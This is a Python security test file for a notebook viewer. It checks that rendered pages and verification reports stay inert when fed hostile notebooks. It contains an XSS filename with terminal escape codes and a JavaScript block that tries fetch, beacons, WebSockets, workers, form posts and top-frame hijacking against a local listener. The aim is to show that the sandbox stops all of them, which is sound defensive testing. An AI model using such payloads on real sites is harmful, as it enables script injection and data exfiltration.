"""Whatever a recording holds: nothing of it runs, and nothing is asked for, when somebody looks at it."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from kernel_exec.cli import values as status
from kernel_exec.compare import Difference
from kernel_exec.pages.document import POLICY, page, policy_with
from kernel_exec.pages.outputs import output_html
from kernel_exec.replays.verify import Verification, VerifiedCell
from kernel_exec.viewing import write_page
from tests.cli.conftest import PATIENCE, PROGRAM
from tests.view import hostile
from tests.view.conftest import LEFT, uri

pytestmark = pytest.mark.timeout(600)

NAME = "<img src=x onerror=alert(1)>\x1b]0;t\x07.ipynb"


def test_a_page(watched: Any, listener: Any, tmp_path: Path) -> None:
    notebook = hostile.notebook(tmp_path / NAME, listener.address)
    before = notebook.read_bytes()
    made = write_page(notebook, tmp_path / "page.html")
    with watched() as seen:
        seen.page.goto(uri(made))
        assert seen.page.locator("main > article").count() == len(json.loads(before)["cells"])
        assert seen.page.evaluate(LEFT) == []
        for _ in range(3):  # whatever waits for the mouse, or for the keyboard
            seen.page.mouse.move(400, 300)
            seen.page.keyboard.press("Tab")
            seen.page.mouse.wheel(0, 3000)
        seen.page.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true })")
        seen.did_nothing(listener)
        assert seen.requests == [uri(made)]
    assert notebook.read_bytes() == before


@pytest.mark.parametrize("scripts", [False, True])
def test_the_policy_holds_where_the_cleaning_would_not(
    watched: Any, listener: Any, tmp_path: Path, scripts: bool
) -> None:
    # No policy keeps a page from leading elsewhere by itself, and browsers connect to what a frame may not show.
    without = ("refresh", "<iframe src={u}", "plaintext", "preconnect")
    raw = [hostile.filled(text, listener.address) for text in hostile.HTML if not any(map(text.count, without))]
    made = tmp_path / "raw.html"
    policy = policy_with("0123") if scripts else POLICY
    html = page("t", "\n".join(f"<div>{text}</div>" for text in raw), policy=policy)
    made.write_text(html, encoding="utf-8", errors="replace")
    with watched() as seen:
        seen.page.goto(uri(made))
        seen.page.wait_for_timeout(300)
        assert seen.page.evaluate("() => [window.pwned, document.documentElement.dataset.pwned]") == [None, None]
        assert (seen.dialogs, listener.came) == ([], [])


def test_the_report_of_a_verification(watched: Any, listener: Any, tmp_path: Path) -> None:
    bad = hostile.filled(hostile.TEXT[0], listener.address)
    cell = {"cell_type": "code", "source": bad, "metadata": {}, "outputs": hostile.outputs(listener.address)}
    differences = tuple(Difference("text", bad, bad, bad, f"outputs[{bad}]") for _ in range(2))
    cells = [
        VerifiedCell(0, bad, bad, "differs", bad, differences, stable=False, old=cell, new=cell),
        VerifiedCell(1, bad, bad, "skipped", bad, old=cell),
        VerifiedCell(2, bad, bad, "same", new=cell),
    ]
    made = Verification(Path(NAME), cells, (bad,), (bad, "\ud800")).to_html(tmp_path / "report.html")
    with watched() as seen:
        seen.page.goto(uri(made))
        seen.page.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true })")
        assert seen.page.evaluate(LEFT) == []
        seen.did_nothing(listener)
        assert seen.requests == [uri(made)]


def test_scripts_that_were_asked_for_run_in_a_frame_and_reach_nothing(
    watched: Any, listener: Any, tmp_path: Path
) -> None:
    inner = """
    <p id="out">-</p><img id="i"><form id="f" action="{u}/form" method="post"><input name="q"></form>
    <script>document.getElementById("out").textContent = "ran " + "<script>".slice(0, 4);</script>
    <script>
    const tries = [
      () => fetch("{u}/fetch"), () => { const x = new XMLHttpRequest(); x.open("GET", "{u}/xhr"); x.send(); },
      () => { document.getElementById("i").src = "{u}/img"; }, () => navigator.sendBeacon("{u}/beacon", "x"),
      () => new WebSocket("{u}/ws".replace("http", "ws")), () => new EventSource("{u}/es"),
      () => { const s = document.createElement("script"); s.src = "{u}/script"; document.body.append(s); },
      () => { let l = document.createElement("link"); l.rel = "stylesheet"; l.href = "{u}"; document.body.append(l); },
      () => { const f = document.createElement("iframe"); f.src = "{u}/frame"; document.body.append(f); },
      () => document.getElementById("f").submit(), () => window.open("{u}/open"), () => alert(1),
      () => { top.location = "{u}/top"; }, () => { top.pwned = 1; }, () => { parent.document.title = "pwned"; },
      () => new Worker("{u}/worker"), () => import("{u}/module"), () => localStorage.setItem("x", "y"),
      () => { document.body.style.background = "url({u}/style)"; },
      () => { const a = document.createElement("a"); a.href = "{u}/a"; a.target = "_top"; a.click(); },
      () => { const a = document.createElement("a"); a.href = "{u}/a"; a.ping = "{u}/p"; a.click(); },
      () => { location = "{u}/location"; },
    ];
    for (const one of tries) { try { const r = one(); if (r && r.catch) r.catch(() => 0); } catch (error) { } }
    </script>"""
    good = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": inner.replace("{u}", listener.address)},
    }
    notebook = hostile.notebook(tmp_path / "n.ipynb", listener.address)
    read = json.loads(notebook.read_text())
    read["cells"].insert(
        0, {"cell_type": "code", "source": "", "metadata": {}, "outputs": [good], "execution_count": 1}
    )
    notebook.write_text(json.dumps(read))
    made = write_page(notebook, tmp_path / "page.html", scripts=True)
    with watched() as seen:
        seen.page.goto(uri(made))
        frames = seen.page.locator("iframe")
        assert frames.count() > 3
        assert set(frames.evaluate_all("all => all.map((one) => one.getAttribute('sandbox'))")) == {"allow-scripts"}
        seen.page.wait_for_timeout(800)
        seen.did_nothing(listener, asked=False)
        assert seen.page.title() != "pwned"
        assert seen.page.url == uri(made)
    del read["cells"][0]["outputs"][0]
    plain = inner.partition("<script>\n")[0]
    read["cells"][0]["outputs"] = [{**good, "data": {"text/html": plain}}]
    notebook.write_text(json.dumps(read))
    with watched() as seen:
        seen.page.goto(uri(write_page(notebook, tmp_path / "page.html", scripts=True)))
        assert seen.page.frame_locator("iframe").first.locator("#out").text_content() == "ran <scr"


@pytest.mark.parametrize("arguments", [["missing-\x1b]0;t\x07.ipynb"], [NAME], [NAME, "-o", "no/\x1b[2Jdir/page.html"]])
def test_what_the_command_says_drives_no_terminal(tmp_path: Path, arguments: list[str]) -> None:
    hostile.notebook(tmp_path / NAME, "http://127.0.0.1:1")
    command = [*PROGRAM, "view", *arguments]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=PATIENCE)
    assert done.returncode == (status.OK if arguments == [NAME] else done.returncode)
    assert (done.stdout + done.stderr).strip()
    assert not set(done.stdout + done.stderr) & set("\x1b\x07\x9b")


def test_a_picture_that_would_take_a_gigabyte_is_only_named() -> None:
    wide = next(one for one in hostile.bundles("http://x") if one.get("image/png", "").startswith("iVBOR"))
    shown = output_html({"output_type": "display_data", "data": wide})
    assert "<img" not in shown
    assert "image/png" in shown
